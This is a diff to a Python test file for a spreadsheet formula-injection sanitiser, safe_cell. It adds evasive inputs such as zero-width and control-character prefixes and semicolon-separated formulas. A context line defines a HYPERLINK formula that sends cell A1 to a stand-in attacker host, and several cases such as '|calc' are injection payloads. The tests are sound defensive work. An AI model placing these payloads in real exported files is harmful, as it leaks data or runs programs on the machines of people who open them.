@@ -27,10 +27,32 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
         "\uff1d1",
         "|calc",
         "%0A=1",
+        "\u00a0=1",
+        "\ufeff=1",
+        "\u200b+1",
+        "\x0b=1",
+        "\x00@SUM(A1)",
+        "\u3000\uff1d1",
     ],
 )
 def test_what_may_run_begins_with_an_apostrophe(text):
     assert safe_cell(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("Ada;=1+1", "Ada;'=1+1"),  # a spreadsheet that separates cells with semicolons
+        ("Ada\t@SUM(A1)", "Ada\t'@SUM(A1)"),
+        ('Ada"\n\u200b=1', "Ada\"\n'\u200b=1"),
+        ("=1;=2", "'=1;'=2"),
+        ("Ada; Grace", "Ada; Grace"),
+        ("", ""),
+        ("\u200b", "\u200b"),
+    ],
+)
+def test_no_formula_begins_within_a_text(text, safe):
+    assert safe_cell(text) == safe
 
 
 @pytest.mark.parametrize("value", ["Ada", "", "-", -1.5, 0, None, datetime(2026, 3, 1), "a=1", "é"])
